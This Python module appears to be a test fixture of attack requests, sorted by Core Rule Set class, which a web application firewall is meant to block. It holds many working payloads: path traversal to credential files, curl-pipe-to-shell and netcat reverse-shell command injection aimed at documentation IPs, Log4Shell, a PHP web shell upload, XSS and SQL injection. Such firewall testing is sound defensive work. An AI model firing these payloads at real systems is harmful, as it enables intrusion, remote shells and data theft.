"""Attacks on the sample sites, by the class of the Core Rule Set that is to stop them: none may pass."""

import json
import urllib.parse

from visits import BROWSERS, Request, form, multipart

AGENT = (("User-Agent", BROWSERS[0]), ("Accept", "*/*"))


def query(text, name="q", path="/search"):
    return "GET", f"{path}?{name}={urllib.parse.quote(text)}", (), b""


def posted(text, name="user"):
    return ("POST", "/login", (("Content-Type", "application/x-www-form-urlencoded"),),
            form({name: text, "password": "x"}))


def as_json(text):
    return "POST", "/api/records", (("Content-Type", "application/json"),), json.dumps({"title": {"deep": [text]}}).encode()


def header(name, text, path="/"):
    return "GET", path, ((name, text),), b""


def upload(filename, data, note="a"):
    kind, body = multipart([("note", note)], [("document", filename, "application/octet-stream", data)])
    return "POST", "/upload", (("Content-Type", kind),), body


XML = b'<?xml version="1.0"?><a><b>%s</b></a>'

# class -> requests. The number is the CRS file's.
ATTACKS = {
    "911 method": [("PROPFIND", "/", (), b""), ("PUT", "/news", (("Content-Length", "0"),), b"")],
    "913 scanner": [header("User-Agent", "sqlmap/1.7.2#stable (https://sqlmap.org)"),
                    header("User-Agent", "Mozilla/5.00 (Nikto/2.1.6) (Evasions:None) (Test:000001)"),
                    header("User-Agent", "Nuclei - Open-source project (github.com/projectdiscovery/nuclei)")],
    "920 protocol": [("GET", "/backup/site.sql~", (), b""), ("GET", "/search?q=%00x", (), b""),
                     ("POST", "/login", (("Content-Type", "text/x-unknown"),), b"user=x"),
                     ("GET", "/search?q=a%00b", (), b""), ("GET", "/web.config", (), b"")],
    "921 smuggling": [query("x\r\nSet-Cookie: admin=1"), posted("a\nHTTP/1.1 200 OK\nContent-Length: 0"),
                      query("GET / HTTP/1.1\r\nHost: x")],
    "930 local file": [query("../../../../etc/passwd", "file"), query("....//....//etc/shadow", "page"),
                       query("..%2f..%2f..%2fboot.ini", "f"), posted("/proc/self/environ"),
                       ("GET", "/.git/config", (), b""), ("GET", "/.env", (), b"")],
    "931 remote file": [query("http://203.0.113.7/shell.txt?", "page"), query("ftp://203.0.113.7/x", "include"),
                        posted("php://input", "file")],
    "932 command": [query(";cat /etc/passwd", "host"), query("| /usr/bin/id", "cmd"), query("$(curl 203.0.113.9/x|sh)", "name"),
                    posted("`wget http://203.0.113.9/a -O /tmp/a`"), as_json("; nc -e /bin/sh 203.0.113.9 4444"),
                    header("User-Agent", "() { :; }; /bin/bash -c 'cat /etc/passwd'"),
                    query(";powershell.exe -enc SQBFAFgA", "run"), query("& net user guest /active:yes", "x")],
    "933 PHP": [query("<?php system($_GET['c']); ?>", "body"), posted("php://filter/convert.base64-encode/resource=index.php"),
                query("O:8:\"stdClass\":1:{s:1:\"a\";i:1;}", "data"), upload("shell.php", b"<?php eval($_POST['x']);"),
                as_json("base64_decode(gzinflate(str_rot13($x)))")],
    "934 Node.js": [as_json("_$$ND_FUNC$$_function(){require('child_process').exec('id')}()"),
                    posted("_$$ND_FUNC$$_function (){process.mainModule.require('child_process').exec('ls /')}")],
    "941 XSS": [query("<script>alert(1)</script>"), query("\"><img src=x onerror=alert(document.cookie)>"),
                posted("<svg/onload=alert`1`>"), query("javascript:alert(1)", "url"), as_json("<iframe src=javascript:alert(1)>"),
                header("Referer", "http://x/<script>alert(1)</script>"), header("Cookie", "lang=<script>alert(1)</script>"),
                ("POST", "/api/records", (("Content-Type", "text/xml"),), XML % b"&lt;script&gt;alert(1)&lt;/script&gt;")],
    "942 SQL": [query("1' OR '1'='1"), query("1 UNION SELECT user, password FROM users--"), posted("admin'--"),
                query("1; DROP TABLE records"), query("1 AND SLEEP(5)", "id"), as_json("x' or 1=1 -- "),
                query("1' AND extractvalue(1,concat(0x7e,version()))-- -", "id"), header("Cookie", "id=1' OR 1=1-- -"),
                posted("'; EXEC xp_cmdshell('dir')--"), query("1'/**/UnIoN/**/SeLeCt/**/1,2,3--+"),
                posted("x' AND (SELECT 1 FROM information_schema.tables LIMIT 1)='1")],
    "943 session": [query("http://203.0.113.5/?<script>document.cookie=\"PHPSESSID=1\"</script>", "u"),
                    ("GET", "/login?PHPSESSID=abcdef", (("Referer", "http://203.0.113.5/"),), b"")],
    "944 Java": [query("${jndi:ldap://203.0.113.8/a}"), as_json("javax.naming.InitialContext java.lang.Runtime"),
                 posted("java.lang.Runtime.getRuntime().exec('id')"),
                 as_json("class.module.classLoader.resources.context.parent.pipeline.first.pattern=java.lang.ProcessBuilder")],
    "951 leak": [("GET", "/debug", (), b"")],
}


def attacks():
    """Every attack, in a fixed order; each goes to every site."""
    return [Request(kind, method, path, _with(headers), body) for kind, rows in ATTACKS.items()
            for method, path, headers, body in rows]


def _with(headers):
    named = {name.lower() for name, _ in headers}
    return tuple(pair for pair in AGENT if pair[0].lower() not in named) + tuple(headers)
